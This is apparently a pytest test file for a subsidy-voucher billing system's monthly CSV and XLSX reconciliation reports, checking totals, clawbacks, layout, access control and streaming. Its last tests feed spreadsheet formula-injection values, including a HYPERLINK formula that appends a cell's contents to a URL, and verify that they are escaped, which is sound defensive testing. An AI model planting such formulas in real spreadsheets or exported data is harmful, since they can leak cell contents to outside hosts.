"""The monthly report (CSV and XLSX) on both databases: its figures are the API's figures."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from click.testing import CliRunner

from billing.reports import (
    CSV_HEADER,
    ITEM_COLUMNS,
    MONEY,
    ReportRow,
    allocate,
    write_xlsx,
)
from tests.factories import claim, invoice, setup_programme, usage
from voucher.cli import main

PERIOD = "2026-10"
CHART_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
DRAWING_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def month(finance, as_key, app):
    """A reconciled month with every kind of row: clean, split, flagged, capped, rejected,
    approved, and approved-then-clawed-back claims, in three counties."""
    _, u = setup_programme(finance, providers=("prov-a", "prov-b"), enterprises=4)
    for uscc, county in ((u[1], "秀洲区"), (u[2], "嘉善县")):
        assert finance.patch(f"/v1/enterprises/{uscc}", json={"county": county}).status_code == 200
    a, b = as_key("provider", "prov-a"), as_key("provider", "prov-b")
    e = [as_key("enterprise", x) for x in u]
    cap = app.extensions["voucher.policy"].cap_standard

    usage(a, u[0], 100_001)
    usage(b, u[0], 33_333)
    invoice(a, "A-0", u[0], 100_001)
    invoice(b, "B-0", u[0], 33_333)
    split = claim(e[0], [("prov-a", "A-0", 100_001), ("prov-b", "B-0", 33_333)])
    twice = claim(e[0], [("prov-a", "A-0", 100_001)])

    usage(a, u[1], cap * 5 // 2)
    invoice(a, "A-1", u[1], cap * 5 // 2)
    capped = claim(e[1], [("prov-a", "A-1", cap * 5 // 2)])

    usage(b, u[2], 80_000)
    invoice(b, "B-2", u[2], 80_000)
    flagged = claim(e[2], [("prov-b", "B-2", 80_000), ("prov-a", "A-404", 5_000)])

    usage(a, u[3], 50_000, rid="keep")
    usage(a, u[3], 20_000, rid="dup")
    invoice(a, "A-3", u[3], 70_000)
    clawed = claim(e[3], [("prov-a", "A-3", 70_000)])

    assert finance.post("/v1/reconciliations", json={"period": PERIOD}).status_code == 201
    for cid in (split, clawed):
        assert finance.post(f"/v1/claims/{cid}/approve").json["status"] == "approved"
    assert finance.post(f"/v1/claims/{twice}/reject", json={"reason": "duplicate"}).status_code == 200
    assert a.delete("/v1/usage-records/dup", json={"reason": "sent twice"}).status_code == 200
    assert finance.post("/v1/reconciliations", json={"period": PERIOD}).status_code == 200  # clawback
    rec = finance.get(f"/v1/reconciliations/{PERIOD}").json
    return {"finance": finance, "rec": rec, "usccs": u,
            "ids": {"split": split, "twice": twice, "capped": capped, "flagged": flagged, "clawed": clawed}}


def fen(value) -> int:
    """A yuan cell read back by openpyxl (a float or int) as exact fen."""
    return int(Decimal(str(value)) * 100)


def get_csv(finance) -> tuple[list[dict], bytes]:
    r = finance.get(f"/v1/reconciliations/{PERIOD}/report.csv")
    assert r.status_code == 200, r.data[:500]
    return list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig")))), r.data


def get_xlsx(finance) -> tuple[openpyxl.Workbook, bytes]:
    r = finance.get(f"/v1/reconciliations/{PERIOD}/report.xlsx")
    assert r.status_code == 200, r.data[:500]
    return openpyxl.load_workbook(io.BytesIO(r.data)), r.data


def summary_block(ws, title: str) -> dict[str, tuple]:
    """Rows of one block of the summary sheet, keyed by their second column (English label)."""
    rows = list(ws.iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == title)
    out = {}
    for r in rows[start + 3:]:
        if r[0] is None:
            break
        out[r[1]] = r
    return out


def test_the_month_has_every_kind_of_claim(month):
    rec = month["rec"]
    assert rec["summary"]["by_status"] == {"submitted": 0, "verified": 1, "flagged": 1,
                                           "approved": 2, "rejected": 1, "waitlisted": 0}
    assert rec["summary"]["cap_reached"] == 1
    # v2, proportional: the ¥200 void of a ¥700 month takes back ¥100 of the ¥350 grant.
    assert rec["summary"]["totals"]["clawed_back"] == 10_000
    assert [a["amount"] for a in rec["adjustments"]] == [-10_000]


def test_csv_columns_add_up_to_the_reconciliation_summary(month):
    rows, raw = get_csv(month["finance"])
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 Chinese only with a BOM
    assert tuple(rows[0].keys()) == CSV_HEADER
    totals = month["rec"]["summary"]["totals"]
    items = [r for r in rows if r["record_type"] == "item"]
    assert len(items) == 7  # one row per claim item

    def total(column):
        return sum(int(r[column]) for r in items if r[column] != "")

    assert total("amount_paid") == totals["amount_paid"]
    assert total("invoice_amount") == totals["invoiced"]
    assert total("metered") == totals["metered"]
    assert total("base") == totals["base"]
    assert total("payable") == totals["payable"]
    assert sum(int(r["payable"]) for r in items if r["status"] in ("verified", "flagged")) == totals["reserved"]
    assert sum(int(r["payable"]) for r in items if r["status"] == "approved") == totals["granted"]
    claims = {r["claim_id"]: r["status"] for r in items}
    by_status = {s: list(claims.values()).count(s) for s in month["rec"]["summary"]["by_status"]}
    assert by_status == month["rec"]["summary"]["by_status"]
    for r in items:  # integer fen, never "123.45"
        assert r["amount_paid"].isdigit() and r["payable"].lstrip("-").isdigit()


def test_every_discrepancy_is_listed_on_its_item(month):
    rows, _ = get_csv(month["finance"])
    codes = {(r["claim_id"], r["invoice_no"]): r["discrepancy_codes"].split() for r in rows
             if r["record_type"] == "item"}
    ids = month["ids"]
    assert codes[(ids["flagged"], "A-404")] == ["invoice_not_found"]
    assert codes[(ids["flagged"], "B-2")] == []
    assert codes[(ids["twice"], "A-0")] == ["invoice_claimed_twice"]
    assert codes[(ids["capped"], "A-1")] == ["cap_reached"]  # claim-level codes show on its items
    # Approved before the void: its items are kept; the claim gains usage_voided_after_approval (v2).
    assert codes[(ids["clawed"], "A-3")] == ["usage_voided_after_approval"]


def test_clawback_is_a_row_of_its_own(month):
    rows, _ = get_csv(month["finance"])
    (adj,) = [r for r in rows if r["record_type"] == "clawback"]
    assert adj["claim_id"] == month["ids"]["clawed"]
    assert int(adj["adjustment"]) == -month["rec"]["summary"]["totals"]["clawed_back"] == -10_000
    assert "usage voided after approval" in adj["note"]
    assert adj["enterprise_uscc"] == month["usccs"][3]


def test_payable_is_split_across_items_by_base_and_adds_up_per_claim(month):
    rows, _ = get_csv(month["finance"])
    for c in month["rec"]["claims"]:
        mine = [r for r in rows if r["claim_id"] == c["id"] and r["record_type"] == "item"]
        assert sum(int(r["payable"]) for r in mine) == c["payable"]
    split = [r for r in rows if r["claim_id"] == month["ids"]["split"]]
    assert [int(r["base"]) for r in split] == [100_001, 33_333]
    exact = [Decimal(66_667) * b / 133_334 for b in (100_001, 33_333)]
    assert all(abs(int(r["payable"]) - x) < 1 for r, x in zip(split, exact, strict=True))


def test_xlsx_totals_equal_the_summary(month):
    wb, _ = get_xlsx(month["finance"])
    assert wb.sheetnames == ["汇总 Summary", "明细 Claim items", "调整 Adjustments", "预算 Budget",
                             "风险 Risk"]
    s = month["rec"]["summary"]
    totals = summary_block(wb["汇总 Summary"], "合计 Totals")
    for key, label in (("amount_paid", "Paid"), ("invoiced", "Invoiced"), ("metered", "Metered"),
                       ("base", "Base"), ("computed", "Computed subsidy"), ("payable", "Payable"),
                       ("reserved", "Reserved"), ("granted", "Granted"), ("clawed_back", "Clawed back")):
        assert fen(totals[label][2]) == s["totals"][key], label
    statuses = summary_block(wb["汇总 Summary"], "申领状态 Claims by status")
    assert {k: statuses[k][2] for k in s["by_status"]} == s["by_status"]
    assert statuses["Cap reached"][2] == s["cap_reached"]
    codes = {r[0]: r[2] for r in summary_block(wb["汇总 Summary"], "差异 Discrepancies").values()}
    assert codes == s["discrepancies"]

    items = wb["明细 Claim items"]
    data = list(items.iter_rows(min_row=3, values_only=True))
    body, total_row = data[:-1], data[-1]
    assert len(body) == 7 and total_row[0] == "合计 Total"
    for col, key in ((7, "amount_paid"), (8, "invoiced"), (9, "metered"), (10, "base"), (11, "payable")):
        assert sum(fen(r[col]) for r in body if r[col] is not None) == s["totals"][key]
        assert fen(total_row[col]) == s["totals"][key]


def test_xlsx_totals_by_county_and_provider(month):
    wb, _ = get_xlsx(month["finance"])
    ws = wb["汇总 Summary"]
    rows = list(ws.iter_rows(values_only=True))
    start = next(i for i, r in enumerate(rows) if r[0] == "按区县 By county")
    counties = {}
    for r in rows[start + 3:]:
        if r[0] is None:
            break
        counties[r[0]] = (r[1], r[2], fen(r[3]), fen(r[4]))
    assert set(counties) == {"南湖区", "秀洲区", "嘉善县"}
    assert counties["南湖区"][:2] == (2, 3)  # two enterprises, three claims
    assert sum(c[3] for c in counties.values()) == month["rec"]["summary"]["totals"]["payable"]
    payables = [c[3] for c in counties.values()]
    assert payables == sorted(payables, reverse=True)  # the chart reads biggest first
    start = next(i for i, r in enumerate(rows) if r[0] == "按服务商 By provider")
    providers = {r[0]: r for r in rows[start + 3:start + 5]}
    assert set(providers) == {"prov-a", "prov-b"}
    assert sum(fen(r[7]) for r in providers.values()) == month["rec"]["summary"]["totals"]["payable"]
    capped = summary_block(ws, "达到年度上限的企业 Enterprises at the annual cap")
    (row,) = capped.values()
    assert row[0] == month["usccs"][1] and row[3] == month["ids"]["capped"]


def test_xlsx_headers_formats_and_layout(month):
    wb, _ = get_xlsx(month["finance"])
    ws = wb["明细 Claim items"]
    zh = [c.value for c in ws[1]]
    en = [c.value for c in ws[2]]
    assert zh == [c[0] for c in ITEM_COLUMNS] and en == [c[1] for c in ITEM_COLUMNS]
    assert zh[2] == "统一社会信用代码" and en[2] == "USCC"
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["D"].width == 30
    assert ws.auto_filter.ref == "A2:N9"
    money = [c for row in ws.iter_rows(min_row=3, min_col=8, max_col=12) for c in row if c.value is not None]
    assert money and all(c.number_format == MONEY for c in money)
    assert all(round(c.value * 100) == fen(c.value) for c in money)  # two decimals, in yuan
    first = next(ws.iter_rows(min_row=3, max_row=3, values_only=True))
    assert first[0] == PERIOD and first[12].endswith(("approved", "verified", "flagged", "rejected"))
    adj = wb["调整 Adjustments"]
    assert adj.freeze_panes == "A3"
    (row, total) = list(adj.iter_rows(min_row=3))
    assert row[1].value == month["ids"]["clawed"] and row[5].value == "追回 clawback"
    assert fen(row[6].value) == -10_000 and row[6].number_format == MONEY
    assert fen(total[6].value) == -10_000


def test_xlsx_is_a_complete_package_with_charts(month):
    _, raw = get_xlsx(month["finance"])
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        assert z.testzip() is None
        names = set(z.namelist())
        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml",
                "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"} <= names
        charts = sorted(n for n in names if n.startswith("xl/charts/chart"))
        assert len(charts) == 2
        chart = ElementTree.fromstring(z.read(charts[0]))
        assert chart.find(f".//{{{CHART_NS}}}barChart") is not None
        title = "".join(t.text or "" for t in chart.iter(f"{{{DRAWING_NS}}}t"))
        assert "payable by county" in title


def libreoffice_sheet(raw: bytes, sheet: str, tmp_path: Path) -> list[list[str]]:
    """The rows of one sheet of an xlsx as LibreOffice computes them (headless, to CSV)."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed here: run scripts/ensure-libreoffice.sh (CI does)"
    (tmp_path / "report.xlsx").write_bytes(raw)
    # Every sheet to its own CSV (sheet -1), UTF-8, raw values rather than as displayed.
    options = "44,34,76,1,,0,false,true,false,false,false,-1"
    done = subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(tmp_path),
         str(tmp_path / "report.xlsx")],
        capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    sheet_csv = tmp_path / f"report-{sheet}.csv"
    assert sheet_csv.exists(), (done.stdout, sorted(p.name for p in tmp_path.iterdir()))
    return list(csv.reader(sheet_csv.open(encoding="utf-8")))


def test_libreoffice_opens_the_xlsx_and_its_items_add_up(month, tmp_path):
    _, raw = get_xlsx(month["finance"])
    rows = libreoffice_sheet(raw, "明细 Claim items", tmp_path)
    assert rows[0][2] == "统一社会信用代码" and rows[1][2] == "USCC"
    body = rows[2:-1]
    totals = month["rec"]["summary"]["totals"]
    assert sum(int(Decimal(r[11]) * 100) for r in body) == totals["payable"]
    assert sum(int(Decimal(r[7]) * 100) for r in body) == totals["amount_paid"]


def test_report_endpoints_are_finance_only_with_file_names(month, as_key):
    f = month["finance"]
    r = f.get(f"/v1/reconciliations/{PERIOD}/report.csv")
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.headers["Content-Disposition"] == f"attachment; filename=voucher-report-{PERIOD}.csv"
    r = f.get(f"/v1/reconciliations/{PERIOD}/report.xlsx")
    assert r.headers["Content-Type"] == XLSX
    assert r.headers["Content-Disposition"] == f"attachment; filename=voucher-report-{PERIOD}.xlsx"
    assert r.data[:2] == b"PK"
    enterprise = as_key("enterprise", month["usccs"][0])
    assert enterprise.get(f"/v1/reconciliations/{PERIOD}/report.csv").status_code == 403
    assert as_key("provider", "prov-a").get(f"/v1/reconciliations/{PERIOD}/report.xlsx").status_code == 403


def test_report_of_a_month_never_reconciled_is_404(finance):
    for url in ("/v1/reconciliations/2026-09/report.csv", "/v1/reconciliations/2026-09/report.xlsx",
                "/v1/reconciliations/2026-13/report.csv"):
        r = finance.get(url)
        assert r.status_code == 404 and r.json["error"]["code"] == "resource_missing", url
    assert finance.get(f"/v1/reconciliations/{PERIOD}/report.pdf").status_code == 404


def test_cli_report_writes_csv_and_xlsx(month, database_url, tmp_path):
    env = {"VOUCHER_DATABASE_URL": database_url}
    out = tmp_path / "r.csv"
    r = CliRunner().invoke(main, ["report", "--period", PERIOD, "--format", "csv", "--output", str(out)], env=env)
    assert r.exit_code == 0, r.output
    assert "5 claims, 7 items, 1 adjustments" in r.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert sum(int(x["payable"]) for x in rows if x["record_type"] == "item") == \
        month["rec"]["summary"]["totals"]["payable"]
    xlsx = tmp_path / "sub" / "r.xlsx"
    r = CliRunner().invoke(main, ["report", "--period", PERIOD, "--format", "xlsx", "--output", str(xlsx)], env=env)
    assert r.exit_code == 0, r.output
    assert openpyxl.load_workbook(xlsx).sheetnames[0] == "汇总 Summary"
    assert not list(tmp_path.glob("**/*.part"))


def test_cli_report_needs_a_reconciliation(database_url, db, tmp_path):
    env = {"VOUCHER_DATABASE_URL": database_url}
    r = CliRunner().invoke(main, ["report", "--period", "2026-09", "--format", "csv",
                                  "--output", str(tmp_path / "x.csv")], env=env)
    assert r.exit_code == 1 and "voucher reconcile --period 2026-09" in r.output
    r = CliRunner().invoke(main, ["report", "--period", "2026-9", "--format", "csv",
                                  "--output", str(tmp_path / "x.csv")], env=env)
    assert r.exit_code == 2


# --- pure parts ---------------------------------------------------------------------------

def test_allocate_is_proportional_whole_fen_and_exact():
    assert allocate(66_667, [100_001, 33_333]) == [50_001, 16_666]
    assert allocate(10, [1, 1, 1]) == [4, 3, 3]  # the remainder goes to the earliest
    assert allocate(0, [5, 7]) == [0, 0]
    assert allocate(9, [0, 0]) == [9, 0]
    assert allocate(7, []) == []
    for total, weights in ((1, [3, 3, 3]), (99_999, [1, 2, 3, 4]), (5, [0, 1, 0])):
        assert sum(allocate(total, weights)) == total


def _rows(claims: int):
    for i in range(claims):
        for j in range(2):
            yield ReportRow(kind="item", period=PERIOD, claim_id=i, enterprise_uscc=f"9133040{i:011d}",
                            enterprise_name="嘉兴某某智能科技有限公司", county=("南湖区", "秀洲区")[i % 2],
                            status="approved", claim_codes=(), claim_computed=1_000, claim_payable=1_000,
                            claim_payable_before_cap=1_000, claim_clawed_back=0, cap_reached=False,
                            provider_id=f"prov-{j}", provider_name="P", invoice_no=f"{i}-{j}",
                            amount_paid=1_001, invoice_amount=1_001, metered=1_001, base=1_000,
                            payable=500, item_codes=())


def test_xlsx_is_streamed_in_bounded_memory(tmp_path):
    """Write-only mode: ten times the claims cost (almost) no more memory, not ten times more."""
    peaks = []
    for n in (200, 2_000):
        tracemalloc.start()
        with open(tmp_path / f"{n}.xlsx", "wb") as fh:
            summary = write_xlsx(PERIOD, _rows(n), fh)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        assert summary.claims == n and summary.totals["payable"] == 1_000 * n
    # An in-memory workbook of 4,000 rows × 14 cells would take tens of MB; the per-county
    # set of USCCs is all that grows here.
    assert peaks[1] - peaks[0] < 1_000_000, peaks
    # Streaming also means no <dimension> up front: read-only readers count the rows.
    wb = openpyxl.load_workbook(Path(tmp_path / "2000.xlsx"), read_only=True)
    assert sum(1 for _ in wb["明细 Claim items"].iter_rows()) == 2 + 4_000 + 1


FORMULAS = ('=HYPERLINK("http://x"&A3,"x")', "+1", "-1+2", "@SUM(A1)", "=1+1")


@pytest.fixture
def formula_month(finance, as_key):
    """A reconciled month whose names, county and invoice numbers all look like formulas."""
    finance.post("/v1/providers", json={"id": "prov-f", "name": FORMULAS[0], "kind": "intelligent_computing",
                                        "listed_from": "2025-05-13"})
    _, u = setup_programme(finance, providers=(), enterprises=2)
    for uscc, name in zip(u, FORMULAS[1:3], strict=True):
        r = finance.patch(f"/v1/enterprises/{uscc}", json={"name": name, "county": FORMULAS[3]})
        assert r.status_code == 200, r.json
    p = as_key("provider", "prov-f")
    for i, uscc in enumerate(u):
        usage(p, uscc, 10_000 + i)
        invoice(p, FORMULAS[4 - i], uscc, 10_000 + i)
        claim(as_key("enterprise", uscc), [("prov-f", FORMULAS[4 - i], 10_000 + i)])
    assert finance.post("/v1/reconciliations", json={"period": PERIOD}).status_code == 201
    return finance


def test_report_csv_text_cells_starting_like_formulas_are_quoted(formula_month):
    rows, _ = get_csv(formula_month)
    assert {r["enterprise_name"] for r in rows} == {"'+1", "'-1+2"}
    assert {r["county"] for r in rows} == {"'@SUM(A1)"}
    assert {r["invoice_no"] for r in rows} == {"'=1+1", "'@SUM(A1)"}
    for r in rows:  # money stays a number
        assert int(r["amount_paid"]) > 0 and int(r["payable"]) >= 0
    cells = [v for r in rows for v in r.values() if isinstance(v, str)]
    assert not [v for v in cells if v[:1] in ("=", "+", "@", "\t", "\r")
                or (v.startswith("-") and not v.lstrip("-").isdigit())]


def test_report_xlsx_text_cells_are_never_formulas(formula_month, tmp_path):
    wb, raw = get_xlsx(formula_month)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    seen.add(c.value)
    assert seen >= set(FORMULAS)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        assert not [n for n in z.namelist() if n.startswith("xl/worksheets/")
                    and b"<f>" in z.read(n)]
    items = libreoffice_sheet(raw, "明细 Claim items", tmp_path)
    body = items[2:-1]
    assert {r[3] for r in body} == {"+1", "-1+2"}  # the literal text, not 1 or 1
    assert {r[4] for r in body} == {"@SUM(A1)"}
    assert {r[6] for r in body} == {"=1+1", "@SUM(A1)"}
    summary = libreoffice_sheet(raw, "汇总 Summary", tmp_path)
    assert any(FORMULAS[0] in r for r in summary)
